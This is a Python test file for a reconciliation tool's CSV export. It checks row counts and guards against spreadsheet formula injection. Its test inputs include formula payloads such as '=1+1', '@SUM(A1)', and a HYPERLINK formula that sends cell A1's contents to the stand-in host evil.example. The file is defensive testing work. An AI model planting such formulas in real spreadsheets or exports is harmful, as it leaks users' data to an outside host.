"""The table for spreadsheets: a line a divergence, and no cell is worked out."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reconcile.model import Reconciliation
from reconcile.render.csv import COLUMNS, render
from reconcile.render.page.table import MARK, harmless
from reconcile.settings import Settings
from tests.render.made import coach
from tests.render.test_properties import ANY, reconciliations


def read(page: str) -> list[dict[str, str]]:
    assert page.startswith(MARK)
    return list(csv.DictReader(io.StringIO(page.removeprefix(MARK)), strict=True))


@pytest.mark.parametrize("redact", [False, True])
@given(reconciliations())
@settings(**ANY)
def test_a_divergence_is_a_line(redact: bool, found: Reconciliation) -> None:
    page = render(found, Settings(redact=redact))
    assert page.count("\n") == len(found.divergences) + 1
    rows = read(page)
    assert [row["fingerprint"] for row in rows] == [d.fingerprint for d in found.divergences]
    assert all(list(row) == list(COLUMNS) for row in rows)


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "+1", "-1", "@SUM(A1)", " =1+1", "\t=1+1", "＝1+1", '"=1+1"', "x; =1+1"),
        '=HYPERLINK("http://evil.example?"&A1,"read on")',
    ],
)
def test_no_cell_begins_a_formula(text: str) -> None:
    found = coach()
    first, *rest = found.divergences
    first = replace(first, finding=replace(first.finding, subject=text, reason=text))
    row = read(render(replace(found, divergences=(first, *rest)), Settings()))[0]
    for part in (row["subject"], *row["subject"].split(";"), row["reason"]):
        assert not part.lstrip(' "').startswith(("=", "+", "-", "@", "＝"))


@given(st.text())
def test_a_cell_keeps_its_words(text: str) -> None:
    assert not harmless(text).startswith(("=", "+", "-", "@"))


def test_common_words_stay_as_they_are() -> None:
    assert (
        harmless("a drop of -3; so-called “aid” = help") == "a drop of -3; so-called “aid” = help"
    )
